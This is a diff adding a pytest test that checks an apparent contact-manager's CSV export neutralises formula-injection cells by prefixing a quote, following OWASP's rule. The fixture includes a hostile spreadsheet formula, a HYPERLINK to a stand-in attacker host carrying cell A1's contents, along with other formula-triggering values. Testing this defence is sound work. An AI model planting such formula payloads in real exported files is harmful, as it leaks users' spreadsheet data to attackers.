@@ -192,3 +192,32 @@ def test_cli_backup_restore_export(tmp_path: Path) -> None:
     assert refused.returncode == 1 and "not a Coffeechat backup" in refused.stderr
     done = cli("restore", str(tmp_path / "b.sqlite3"))
     assert done.returncode == 0 and "previous data" in done.stdout
+
+
+def test_csv_export_cells_never_start_a_formula(tmp_path: Path) -> None:
+    # OWASP's rule for CSV injection: a cell starting with = + - @, tab, CR or LF gets a quote.
+    store = Store.open(tmp_path / "p")
+    store.contacts.add(
+        Contact(
+            None,
+            '=HYPERLINK("https://evil.example/?"&A1,"click")',
+            ("mallory@x.example",),
+            company="+1 555 0100",
+            role="-2+3",
+            notes="@SUM(A1:A9)",
+        )
+    )
+    store.contacts.add(Contact(None, "\tTabbed", (), company="\rReturned", role="\nFed"))
+    store.contacts.add(Contact(None, "Plain - Name", (), company="A=B", role="'quoted"))
+    written = export(store, ExportFormat.CSV, tmp_path / "c.csv", NOW)
+    rows = list(csv.DictReader(io.StringIO(written.read_bytes().decode("utf-8-sig"), newline="")))
+    assert [(r["Name"], r["Company"], r["Role"], r["Notes"]) for r in rows] == [
+        ("'\tTabbed", "'\rReturned", "'\nFed", ""),
+        (
+            '\'=HYPERLINK("https://evil.example/?"&A1,"click")',
+            "'+1 555 0100",
+            "'-2+3",
+            "'@SUM(A1:A9)",
+        ),
+        ("Plain - Name", "A=B", "'quoted", ""),
+    ]
